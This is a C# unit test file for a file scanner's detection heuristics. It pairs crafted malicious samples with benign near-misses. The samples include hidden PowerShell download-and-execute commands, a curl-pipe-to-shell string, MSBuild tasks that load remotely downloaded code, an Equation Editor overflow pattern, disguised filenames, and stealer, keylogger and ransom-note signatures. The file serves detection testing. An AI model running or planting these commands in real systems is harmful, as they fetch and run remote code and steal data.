using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using ScanHost.TestKit.HeldOut.Second;
using static ScanHost.Pipeline.Findings.SettingsHeuristics;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>One file that deserves each finding about settings, and those that joined the other kinds later; and three that come close.</summary>
public sealed class SettingsCases
{
    private static readonly byte[] Program = new PeBuilder().Build();

    private static readonly HeuristicCase[] Table =
    [
        Console(ConsoleScript, "<String ID=\"1\">res://apds.dll/redirect.html?target=javascript:x</String>", "<String ID=\"1\">Services (Local)</String>", "<String ID=\"1\">res://shell32.dll/icon</String>", "<String ID=\"1\">javascript</String>"),
        Console(ConsoleCommand, Task("cmd.exe", "/c calc"), Task("C:\\App\\app.exe", "/x"), Task("notepad.exe", "a.txt"), "<String ID=\"1\">cmd.exe</String>"),
        HeuristicCase.Of(TaskCommand, "a.xml", Scheduled("powershell.exe", "-w hidden -c iex(irm http://192.0.2.1/t)"), Scheduled("powershell.exe", "-NoProfile -File C:\\Scripts\\backup.ps1"), Scheduled("C:\\App\\app.exe", "https://host.invalid/"), Scheduled("cmd.exe", "/c C:\\Scripts\\a.bat")),
        HeuristicCase.Of(BuildInjects, "a.csproj", Project("VirtualAlloc(0,1,2,3);CreateThread(0,0,p,0,0,0);"), Project("VirtualAlloc(0,1,2,3);"), Project("new System.Threading.Thread(f).Start();"), "<Project><PropertyGroup><A>VirtualAlloc CreateThread</A></PropertyGroup></Project>"),
        HeuristicCase.Of(BuildDownloads, "a.csproj", Project("Assembly.Load(new WebClient().DownloadData(\"http://192.0.2.1/n\"));"), Project("new WebClient().DownloadFile(u, f);"), Project("Assembly.Load(name);"), "<Project><Target Name=\"A\"><Exec Command=\"npm ci\"/></Target></Project>"),
        HeuristicCase.Of(RemoteDesktop, "a.rdp", "full address:s:192.0.2.1\r\ndrivestoredirect:s:*\r\n", "full address:s:ts01.firm.local\r\ndrivestoredirect:s:*\r\n", "full address:s:192.0.2.1\r\ndrivestoredirect:s:\r\n", "full address:s:192.0.2.1\r\nredirectclipboard:i:1\r\n"),
        HeuristicCase.Of(RemoteTheme, "a.theme", "[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\192.0.2.1\\s\\w.jpg\r\n", "[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\img0.jpg\r\n", "[Theme]\r\nDisplayName=\\\\x\r\n", "[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=C:\\a.scr\r\n"),
        HeuristicCase.Of(JavaAllPermissions, "a.jnlp", Start("http://192.0.2.1/", "<security><all-permissions/></security>"), Start("https://host.invalid/", "<security><all-permissions/></security>"), Start("http://192.0.2.1/", ""), Start("https://host.invalid/", "")),
        new(Heuristics.DisguisedProgram, new("Rechnung\u202Efdp.exe", Program), new("Rechnung.exe", Program), new("a b.pdf.exe", Program), new("Rechnung\u202Efdp.txt", Program)),
        new(DocumentHeuristics.EquationOverflow, Formula([8, 0x5A, 0x5A, .. Enumerable.Repeat((byte)'A', 60)]), Formula([8, 1, 0, .. "Times New Roman"u8]), Formula([8, 1, 2, .. "Symbol"u8]), Formula([9, 1, 0, .. Enumerable.Repeat((byte)'A', 60)])),
        new(DocumentHeuristics.PdfDownloadAuto, Pdf("/OpenAction << /S /URI /URI (http://host.invalid/a.exe) >>"), Pdf("/OpenAction << /S /URI /URI (https://host.invalid/) >>"), Pdf("/Lang (en) /X << /S /URI /URI (http://host.invalid/a.exe) >>"), Pdf("/OpenAction [3 0 R /Fit]")),
        new(ArchiveHeuristics.ImageSideLoad, Image(("a.exe", Program), ("version.dll", Program)), Image(("a.exe", Program), ("helper.dll", Program)), Image(("version.dll", Program), ("a.txt", Program)), new("a.zip", InertFiles.Zip(("a.exe", Program), ("version.dll", Program)))),
        Words(ExecutableHeuristics.PeRansomNote, "YOUR FILES are gone\0HOW_TO_RECOVER.txt\0x.onion\0", "YOUR FILES\0", "HOW TO DECRYPT\0", "x.onion\0decryption key\0"),
        Words(ExecutableHeuristics.PeStealer, "Login Data\0wallet.dat\0exodus.wallet\0", "Login Data\0Local State\0", "wallet.dat\0exodus.wallet\0", "Login Data\0wallet.dat\0"),
        new(ExecutableHeuristics.PeKeyLogger, Keys("[ENTER]\0[BACKSPACE]\0", "GetAsyncKeyState"), Keys("[ENTER]\0", "GetAsyncKeyState"), Keys("[ENTER]\0[BACKSPACE]\0", "GetMessageA"), Keys("", "GetAsyncKeyState")),
        Words(ExecutableHeuristics.PeHiddenCommand, "powershell -w hidden -c iex(irm http://192.0.2.1/a)\0", "powershell -NoProfile -ExecutionPolicy Bypass -File install.ps1\0", "powershell -w hidden -File C:\\a.ps1\0", "powershell\0-w hidden iex(irm http://192.0.2.1/a)\0"),
        new(ExecutableHeuristics.ElfDownloadPipe, Elf("curl -s http://192.0.2.1/a|sh\0"), Elf("curl -s http://192.0.2.1/a\0|sh\0"), Elf("usage: wget URL | less\0"), Elf("wget \0")),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_file_deserves_it_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();

    private static HeuristicCase Console(Heuristic heuristic, string positive, params string[] negatives) =>
        HeuristicCase.Of(heuristic, "a.msc", $"<?xml version=\"1.0\"?><MMC_ConsoleFile>{positive}</MMC_ConsoleFile>", [.. negatives.Select(text => $"<?xml version=\"1.0\"?><MMC_ConsoleFile>{text}</MMC_ConsoleFile>")]);

    private static string Task(string command, string parameters) => $"<Task Type=\"CommandLine\" Command=\"{command}\"><CommandLine Directory=\"\" Params=\"{parameters}\"/></Task>";

    private static string Scheduled(string command, string arguments) =>
        $"<?xml version=\"1.0\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Actions><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions></Task>";

    private static string Project(string code) => $"<Project><UsingTask TaskName=\"L\" TaskFactory=\"RoslynCodeTaskFactory\"><Task><Code Type=\"Fragment\"><![CDATA[{code}]]></Code></Task></UsingTask></Project>";

    private static string Start(string codebase, string security) => $"<?xml version=\"1.0\"?><jnlp spec=\"1.0+\" codebase=\"{codebase}\"><information><title>a</title></information>{security}</jnlp>";

    private static SampleFile Formula(byte[] records) => new("a.doc", new OleFileBuilder().Stream("WordDocument", new byte[600])
        .Stream("ObjectPool/_1/Equation Native", [28, 0, 0, 0, 2, 0, .. new byte[22], 3, 1, 1, 3, 10, 0x0A, .. records, 0, 1, 0]).Class("ObjectPool/_1", "0002ce02-0000-0000-c000-000000000046").Build());

    private static SampleFile Pdf(string catalogue) => new("a.pdf", new PdfBuilder().Catalogue(catalogue).Build());

    private static SampleFile Image(params (string Name, byte[] Content)[] files) => new("a.iso", ImageForms.Image(files));

    private static HeuristicCase Words(Heuristic heuristic, string positive, params string[] negatives) =>
        new(heuristic, new("a.exe", new PeBuilder().WithData(positive).Build()), [.. negatives.Select(words => new SampleFile("a.exe", new PeBuilder().WithData(words).Build()))]);

    private static SampleFile Keys(string words, string function) => new("a.exe", new PeBuilder().Importing("USER32.dll", function, "A", "B").WithData(words).Build());

    private static SampleFile Elf(string words) => new("a", [0x7F, .. "ELF"u8, 2, 1, 1, .. new byte[9], 2, 0, 0x3E, 0, 1, 0, 0, 0, .. new byte[40], .. System.Text.Encoding.ASCII.GetBytes(words), .. new byte[200]]);
}
